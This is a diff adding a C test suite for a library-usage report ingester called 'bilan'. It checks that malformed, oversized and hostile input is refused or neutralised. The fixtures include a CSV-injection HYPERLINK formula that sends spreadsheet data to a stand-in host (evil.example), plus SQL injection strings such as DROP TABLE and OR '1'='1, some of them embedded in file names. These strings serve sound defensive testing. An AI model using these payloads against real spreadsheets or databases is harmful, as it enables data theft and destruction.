@@ -1,0 +1,393 @@
+/* The bad-input corpus (fixtures/bad/, see its README) through the real
+ * binary: each case gives a clear message naming the file and the reason,
+ * the documented exit code (65 refused, 66 missing, 0 with rejected rows for
+ * row-level problems), and a refused file leaves the store exactly as it was
+ * (export and source list before = after, integrity_check ok). Exports a
+ * spreadsheet will open never start a field with a formula character. */
+#include <criterion/criterion.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include "rel_util.h"
+
+static rel_env env;
+
+static void setup(void)
+{
+    rel_setup(&env, "bad");
+}
+
+static void teardown(void)
+{
+    rel_teardown(&env);
+}
+
+#define HEADER "partner_id,library_id,resource_id,month,metric,value\n"
+
+static void ingest_ok(const char *db, const char *path)
+{
+    tu_run r = rel_bilan(db, "ingest", path, NULL);
+    cr_assert_eq(r.status, 0, "ingest %s: %s", path, r.err);
+    tu_run_free(&r);
+}
+
+static void assert_sound(const char *db)
+{
+    char *ic = rel_integrity(db);
+    cr_assert_str_eq(ic, "ok", "integrity_check of %s: %s", db, ic);
+    free(ic);
+}
+
+/* A file refused whole: exit `code`, stderr names the file and the reason,
+ * the store (holding a good file first) unchanged. */
+static void check_refused(const char *path, const char *format, int code, const char *reason)
+{
+    ingest_ok(env.db, rel_fixture("ingest/pr-2025q1.csv"));
+    char *before = rel_export(env.db), *src_before = rel_sources(env.db);
+    tu_run r = format ? rel_bilan(env.db, "ingest", "--format", format, path, NULL)
+                      : rel_bilan(env.db, "ingest", path, NULL);
+    cr_assert_eq(r.status, code, "%s: exit %d, expected %d; stderr: %s", path, r.status, code,
+                 r.err);
+    cr_assert(strstr(r.err, path), "the message must name the file: %s", r.err);
+    cr_assert(strstr(r.err, reason), "the message must say '%s': %s", reason, r.err);
+    cr_assert(strncmp(r.err, "bilan: ", 7) == 0, "git-style message: %s", r.err);
+    cr_assert_eq(r.out_len, 0, "nothing on stdout for a refused file: %s", r.out);
+    tu_run_free(&r);
+    char *after = rel_export(env.db), *src_after = rel_sources(env.db);
+    cr_assert_str_eq(after, before, "the store changed");
+    cr_assert_str_eq(src_after, src_before, "the source list changed");
+    assert_sound(env.db);
+    free(before);
+    free(after);
+    free(src_before);
+    free(src_after);
+}
+
+Test(bad_input, empty_file_refused, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/empty.csv"), NULL, 65, "empty file");
+}
+
+Test(bad_input, binary_file_refused, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/binary.csv"), NULL, 65, "binary data");
+}
+
+Test(bad_input, binary_file_refused_even_when_format_forced, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/binary.csv"), "counter5", 65, "binary.csv");
+}
+
+Test(bad_input, truncated_gzip_refused, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/truncated.csv.gz"), NULL, 65, "truncated");
+}
+
+Test(bad_input, gzip_of_garbage_refused, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/garbage.csv.gz"), NULL, 65, "corrupt gzip");
+}
+
+Test(bad_input, nul_bytes_refused, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/nul-bytes.csv"), NULL, 65, "NUL");
+}
+
+Test(bad_input, wrong_delimiter_refused, .init = setup, .fini = teardown)
+{
+    check_refused(rel_fixture("bad/wrong-delimiter.csv"), NULL, 65, "unknown format");
+}
+
+Test(bad_input, missing_file_exit_66, .init = setup, .fini = teardown)
+{
+    check_refused(rel_path(&env, "no-such-file.csv"), NULL, 66, "No such file or directory");
+}
+
+/* One 2 MB line with no end: not a format, and no reader may buffer it whole. */
+Test(bad_input, huge_line_without_newline_refused, .init = setup, .fini = teardown)
+{
+    const char *p = rel_path(&env, "huge-nonl.csv");
+    size_t n = 2u << 20;
+    char *b = malloc(n);
+    memset(b, 'y', n);
+    memcpy(b, "Report_Name,", 12);
+    cr_assert(tu_write_file(p, b, n));
+    free(b);
+    check_refused(p, NULL, 65, "unknown format");
+}
+
+Test(bad_input, huge_header_line_refused_when_counter5_forced, .init = setup, .fini = teardown)
+{
+    const char *p = rel_path(&env, "huge-header.csv");
+    size_t n = 2u << 20;
+    char *b = malloc(n);
+    memset(b, 'y', n);
+    memcpy(b, "Report_Name,", 12);
+    cr_assert(tu_write_file(p, b, n));
+    free(b);
+    check_refused(p, "counter5", 65, "huge-header.csv");
+}
+
+/* A 300 KB row inside a good report: that row is rejected alone (file and
+ * line named), the rest is exactly what the file without it gives. */
+Test(bad_input, huge_row_rejected_alone, .init = setup, .fini = teardown)
+{
+    size_t len = 0;
+    char *src = tu_read_file(rel_fixture("ingest/pr-2025q1.csv"), &len);
+    cr_assert(src);
+    const char *victim = strstr(src, "Bibliothèque inconnue");
+    cr_assert(victim);
+    const char *eol = strchr(victim, '\n');
+    size_t pre = (size_t)(victim - src);
+    unsigned long line = 1;
+    for (size_t i = 0; i < pre; i++)
+        line += src[i] == '\n';
+    /* with the row made huge */
+    size_t big = 300000;
+    char *huge = malloc(len + big);
+    memcpy(huge, src, pre);
+    memset(huge + pre, 'B', big);
+    memcpy(huge + pre + big, victim, len - pre);
+    cr_assert(tu_write_file(rel_path(&env, "huge-row.csv"), huge, len + big));
+    /* and without the row at all */
+    char *without = malloc(len);
+    memcpy(without, src, pre);
+    memcpy(without + pre, eol + 1, len - (size_t)(eol + 1 - src));
+    cr_assert(tu_write_file(rel_path(&env, "without-row.csv"), without,
+                            len - (size_t)(eol + 1 - victim)));
+
+    tu_run r = rel_bilan(env.db, "ingest", rel_path(&env, "huge-row.csv"), NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    char want[1200];
+    snprintf(want, sizeof want, "%s:%lu:", rel_path(&env, "huge-row.csv"), line);
+    cr_assert(strstr(r.err, want), "expected '%s' in: %s", want, r.err);
+    cr_assert(strstr(r.out, "1 rejected"), "%s", r.out);
+    cr_assert(r.err_len < 1000, "the message must not echo the row (%zu bytes)", r.err_len);
+    tu_run_free(&r);
+
+    char fresh[1024];
+    rel_new_store(&env, "fresh.db", fresh);
+    ingest_ok(fresh, rel_path(&env, "without-row.csv"));
+    char *a = rel_export(env.db), *b = rel_export(fresh);
+    cr_assert_str_eq(a, b);
+    free(a);
+    free(b);
+    free(src);
+    free(huge);
+    free(without);
+}
+
+Test(bad_input, huge_log_line_rejected_alone, .init = setup, .fini = teardown)
+{
+    const char *good = "192.0.2.10 - - [10/Oct/2025:13:55:36 +0200] \"GET /ebook/1 HTTP/1.1\" "
+                       "200 2326 \"-\" \"Mozilla/5.0\"\n";
+    const char *p = rel_path(&env, "huge.log");
+    FILE *f = fopen(p, "w");
+    cr_assert(f);
+    for (int i = 0; i < 20; i++)
+        fputs(good, f);
+    fputs("192.0.2.11 - - [10/Oct/2025:13:55:37 +0200] \"GET /", f);
+    for (int i = 0; i < 100000; i++)
+        fputc('a', f);
+    fputs(" HTTP/1.1\" 200 1 \"-\" \"x\"\n", f);
+    for (int i = 0; i < 5; i++)
+        fputs(good, f);
+    fclose(f);
+    tu_run r = rel_bilan(env.db, "ingest", p, NULL);
+    if (rel_placeholder(&r))
+        cr_skip("the log reader is not built yet");
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    char want[1200];
+    snprintf(want, sizeof want, "%s:21:", p);
+    cr_assert(strstr(r.err, want), "expected '%s' in: %s", want, r.err);
+    cr_assert(strstr(r.out, "25 accepted, 1 rejected"), "%s", r.out);
+    cr_assert(!strstr(r.err, "192.0.2"), "an IP address reached stderr: %s", r.err);
+    tu_run_free(&r);
+    assert_sound(env.db);
+}
+
+/* Windows-1252 bytes in a UTF-8-looking file: read as text, stored and
+ * exported as valid UTF-8. */
+Test(bad_input, invalid_utf8_read_and_stored_as_utf8, .init = setup, .fini = teardown)
+{
+    tu_run r = rel_bilan(env.db, "ingest", rel_fixture("bad/invalid-utf8.csv"), NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    cr_assert(strstr(r.out, "6 accepted, 0 rejected, 3 unattributed"), "%s", r.out);
+    tu_run_free(&r);
+    char *e = rel_export(env.db), *s = rel_sources(env.db);
+    cr_assert(rel_utf8(e, strlen(e)));
+    cr_assert(rel_utf8(s, strlen(s)));
+    cr_assert(strstr(e, "ca-test,bm-centre,presse,2025-02,Total_Item_Requests,200\n"), "%s", e);
+    free(e);
+    free(s);
+    char *names = rel_query(env.db, "SELECT institution || '|' || institution_id FROM usage");
+    cr_assert(rel_utf8(names, strlen(names)), "stored names must be UTF-8: %s", names);
+    cr_assert(strstr(names, "Médiathèque centrale|"), "Windows-1252 read as such: %s", names);
+    free(names);
+    assert_sound(env.db);
+}
+
+/* A report with its header and heading row but no data: accepted, nothing
+ * stored, and above all nothing it "restates" is removed. */
+Test(bad_input, header_only_changes_nothing, .init = setup, .fini = teardown)
+{
+    ingest_ok(env.db, rel_fixture("ingest/pr-2025q1.csv"));
+    char *before = rel_export(env.db);
+    tu_run r = rel_bilan(env.db, "ingest", rel_fixture("bad/header-only.csv"), NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    cr_assert(strstr(r.out, "header-only.csv"), "%s", r.out);
+    cr_assert(strstr(r.out, "0 accepted, 0 rejected"), "%s", r.out);
+    tu_run_free(&r);
+    char *after = rel_export(env.db);
+    cr_assert_str_eq(after, before);
+    free(before);
+    free(after);
+}
+
+Test(bad_input, negative_counts_rejected_with_file_and_line, .init = setup, .fini = teardown)
+{
+    const char *p = rel_fixture("bad/negative-counts.csv");
+    tu_run r = rel_bilan(env.db, "ingest", p, NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    char want[1200];
+    snprintf(want, sizeof want, "%s:16:", p);
+    cr_assert(strstr(r.err, want), "expected '%s' in: %s", want, r.err);
+    cr_assert(strstr(r.err, "-10"), "the reason names the value: %s", r.err);
+    cr_assert(strstr(r.out, "1 rejected"), "%s", r.out);
+    tu_run_free(&r);
+    char *e = rel_export(env.db);
+    cr_assert_str_eq(e, HEADER "ca-test,bm-centre,presse,2025-01,Total_Item_Requests,100\n"
+                               "ca-test,bm-centre,presse,2025-02,Total_Item_Requests,200\n"
+                               "ca-test,bm-centre,presse,2025-03,Total_Item_Requests,300\n");
+    free(e);
+    r = rel_bilan(env.db, "rejects", "negative-counts.csv", NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    cr_assert(strstr(r.out, ":16:"), "%s", r.out);
+    tu_run_free(&r);
+}
+
+/* Months in the future (a provider's wrong year): rows rejected, file and
+ * reason named; the store holds none of them. */
+Test(bad_input, months_in_the_future_rejected, .init = setup, .fini = teardown)
+{
+    const char *p = rel_fixture("bad/future-months.csv");
+    tu_run r = rel_bilan(env.db, "ingest", p, NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    char *e = rel_export(env.db);
+    cr_assert_str_eq(e, HEADER);
+    cr_assert(strstr(r.err, p), "the message must name the file: %s", r.err);
+    cr_assert(strstr(r.err, "future"), "the message must say why: %s", r.err);
+    free(e);
+    tu_run_free(&r);
+}
+
+/* Found by fuzz_counter: a month heading with a long digit run overflowed
+ * an int (UBSan). The heading is not a month: its column is not counted. */
+Test(bad_input, month_heading_digit_overflow, .init = setup, .fini = teardown)
+{
+    tu_run r = rel_bilan(env.db, "ingest", rel_fixture("bad/month-overflow.csv"), NULL);
+    cr_assert_lt(r.status, 128, "bilan crashed: %s", r.err);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    tu_run_free(&r);
+    char *e = rel_export(env.db);
+    cr_assert(strstr(e, "2025-02,Total_Item_Requests,200"), "%s", e);
+    cr_assert(!strstr(e, "2025-03"), "%s", e);
+    free(e);
+}
+
+/* ---- CSV injection -------------------------------------------------------- */
+
+static void assert_no_formula(const char *what, const char *csv)
+{
+    char bad[64];
+    cr_assert(!rel_csv_has_formula(csv, bad, sizeof bad), "%s: a field starts a formula: %s\n%s",
+              what, bad, csv);
+}
+
+Test(bad_input, csv_injection_in_a_report_is_neutralised, .init = setup, .fini = teardown)
+{
+    ingest_ok(env.db, rel_fixture("bad/csv-injection.csv"));
+    /* A relative file name that is itself a formula. */
+    tu_run c = tu_sh("cp '%s' '%s/=HYPERLINK(1+1).csv' && cd '%s' && sed -i "
+                     "'s/2025/2024/g' "
+                     "'=HYPERLINK(1+1).csv' && '%s' --db '%s' ingest '=HYPERLINK(1+1).csv'",
+                     rel_fixture("ingest/pr-2025q1.csv"), env.dir, env.dir, tu_bilan(), env.db);
+    cr_assert_eq(c.status, 0, "%s", c.err);
+    tu_run_free(&c);
+    tu_run r = rel_bilan(env.db, "sources", "--format", "csv", NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    cr_assert(strstr(r.out, "'=HYPERLINK("), "the provider is kept, neutralised: %s", r.out);
+    assert_no_formula("sources --format csv", r.out);
+    tu_run_free(&r);
+    char *e = rel_export(env.db);
+    assert_no_formula("export usage", e);
+    free(e);
+}
+
+Test(bad_input, csv_injection_in_the_network_is_neutralised, .init = setup, .fini = teardown)
+{
+    char db[1024];
+    snprintf(db, sizeof db, "%s/hostile.db", env.dir);
+    tu_run r = rel_bilan(db, "network", "import", rel_fixture("bad/network-hostile"), NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    tu_run_free(&r);
+    ingest_ok(db, rel_fixture("ingest/pr-2025q1.csv"));
+    char *e = rel_export(db);
+    assert_no_formula("export usage", e);
+    cr_assert(strstr(e, "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Cliquez\"\")\","
+                        "\"'@SUM(1+1)\",\"'+presse\",2025-01,Total_Item_Requests,100\n"),
+              "%s", e);
+    free(e);
+    assert_sound(db);
+}
+
+/* ---- SQL metacharacters ------------------------------------------------------ */
+
+Test(bad_input, sql_metacharacters_are_data, .init = setup, .fini = teardown)
+{
+    ingest_ok(env.db, rel_fixture("bad/sql-metachars.csv"));
+    const char *odd = "x'; DROP TABLE usage; --.csv";
+    tu_run c = tu_sh("cp '%s' \"%s/%s\" && sed -i 's/2025/2024/g' \"%s/%s\"",
+                     rel_fixture("ingest/pr-2025q1.csv"), env.dir, odd, env.dir, odd);
+    cr_assert_eq(c.status, 0, "%s", c.err);
+    tu_run_free(&c);
+    ingest_ok(env.db, rel_path(&env, odd));
+    assert_sound(env.db);
+    cr_assert_eq(rel_count(env.db, "SELECT COUNT(*) FROM library"), 3);
+    cr_assert_eq(rel_count(env.db, "SELECT COUNT(*) FROM source"), 2);
+    cr_assert_eq(rel_count(env.db, "SELECT COUNT(*) FROM usage WHERE platform = "
+                                   "'Kiosque''; DROP TABLE usage; --' AND institution = "
+                                   "'Robert''); DROP TABLE usage; --' AND institution_id = "
+                                   "'x'' OR ''1''=''1'"),
+                 3, "the names are stored verbatim");
+    char *s = rel_sources(env.db);
+    cr_assert(strstr(s, "PresseNum'; DROP TABLE source; --"), "%s", s);
+    cr_assert(strstr(s, odd), "%s", s);
+    free(s);
+    char *e = rel_export(env.db);
+    cr_assert(strstr(e, "ca-test,bm-centre,presse,2025-03,Total_Item_Requests,300\n"), "%s", e);
+    cr_assert(strstr(e, "ca-test,bm-centre,presse,2024-03,Total_Item_Requests,300\n"), "%s", e);
+    free(e);
+    tu_run r = rel_bilan(env.db, "rejects", odd, NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    tu_run_free(&r);
+}
+
+Test(bad_input, sql_metacharacters_in_the_network_are_data, .init = setup, .fini = teardown)
+{
+    char db[1024];
+    snprintf(db, sizeof db, "%s/hostile.db", env.dir);
+    tu_run r = rel_bilan(db, "network", "import", rel_fixture("bad/network-hostile"), NULL);
+    cr_assert_eq(r.status, 0, "%s", r.err);
+    tu_run_free(&r);
+    ingest_ok(db, rel_fixture("ingest/pr-2025q1.csv"));
+    assert_sound(db);
+    cr_assert_eq(rel_count(db, "SELECT COUNT(*) FROM partner WHERE name = "
+                               "'Commune''; DROP TABLE partner; --'"),
+                 1);
+    cr_assert_eq(rel_count(db, "SELECT COUNT(*) FROM resource WHERE provider = "
+                               "'PresseNum''); DELETE FROM usage; --'"),
+                 1);
+    cr_assert_gt(rel_count(db, "SELECT COUNT(*) FROM usage"), 0);
+}
